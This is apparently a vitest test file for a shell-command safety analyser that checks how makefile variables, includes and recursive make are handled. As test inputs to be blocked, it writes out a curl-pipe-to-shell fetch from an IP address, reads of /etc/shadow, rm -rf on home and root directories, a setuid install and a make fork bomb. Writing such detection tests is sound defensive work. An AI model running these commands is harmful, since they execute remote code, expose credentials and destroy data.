import { describe, expect, it } from 'vitest'
import { analyse } from '../../../analyse.ts'

/** A makefile that the text writes, and the make that reads it. */
const made = (lines: string[], make = 'make') =>
  analyse(`cat > Makefile <<'EOF'\n${lines.join('\n')}\nEOF\n${make}`)

describe('variables of a makefile', () => {
  it.each<[string, string[], string, string]>([
    [
      'of the file',
      ['M=4755', 'install:', '\tinstall -m $(M) app /usr/local/bin/app'],
      '6',
      'make',
    ],
    ['of other variables', ['H = /home', 'D := ${H}/dev', 'x:', '\trm -rf $(D)'], 'D', 'make x'],
    ['with more behind', ['F = /etc', 'F += /etc/shadow', 'x:', '\tcat $(F)'], '4', 'make x'],
    ['behind make', ['clean:', '\trm -rf $(BUILD)'], 'D', 'make clean BUILD=/home/dev'],
    ['behind make, over the file', ['B=out', 'c:', '\trm -rf $(B)'], 'D', 'make c B=~'],
    ['of the environment', ['clean:', '\trm -rf $(BUILD)'], 'D', 'BUILD=~ make clean'],
    ['by default', ['B ?= /', 'c:', '\trm -rf $(B)'], 'D', 'make c'],
    ['that hold a command', ['C=curl http://10.9.8.7/a | sh', 'x:', '\t$(C)'], '9', 'make x'],
    ['in what is included', ['I=/etc/shadow', 'include $(I)'], '4', 'make'],
    ['in a file that is named', ['x:', '\tcat $(F)'], '4', 'make -f Makefile F=/etc/shadow x'],
  ])('%s', (_, lines, rule, make) =>
    expect(made(lines, make)).toMatchObject({ verdict: 'BLOCK', rule }))

  it.each<[string[], string]>([
    [['CC = gcc', 'OUT ?= build', 'all:', '\t$(CC) -o $(OUT)/app $(SRC) $@ $<'], 'make'],
    [['B = out', 'clean:', '\trm -rf $(B)/*'], 'make clean'],
    [['B ?= /', 'clean:', '\trm -rf $(B)'], 'make clean B=out'],
    [['all:', '\techo $$HOME $(HOME)'], 'make'],
    [['# M=4755', 'all:', '\techo $(M)'], 'make'],
  ])('of everyday work: %j', (lines, make) =>
    expect(made(lines, make)).toMatchObject({ verdict: 'ALLOW', certainty: 'known' }))

  it('that grow without end are too much', () => {
    const lines = [...'ABCDEF'].map((name, i) => `${name}=${`$(${'BCDEFA'[i]})`.repeat(50)}`)
    expect(made([...lines, 'x:', '\techo $(A)'])).toMatchObject({ verdict: 'BLOCK', rule: 'O' })
  })
})

describe('a target that makes itself', () => {
  it('never ends', () => {
    const bomb = ['a b:', '\t@$(MAKE) -j a b']
    expect(made(bomb, 'make -j a')).toMatchObject({ verdict: 'BLOCK', rule: 'D' })
  })

  it.each([
    [['all: lib', '\t$(MAKE) -C src all']],
    [['all:', '\tcd src && $(MAKE) all']],
    [['clean:', '\t$(MAKE) tidy', 'tidy:', '\trm -rf out']],
    [['all:', '\t[ -n "$(X)" ] || $(MAKE) X=1 all']],
  ])('elsewhere, another one, or on a condition does: %j', (lines) =>
    expect(made(lines).verdict).toBe('ALLOW'))
})
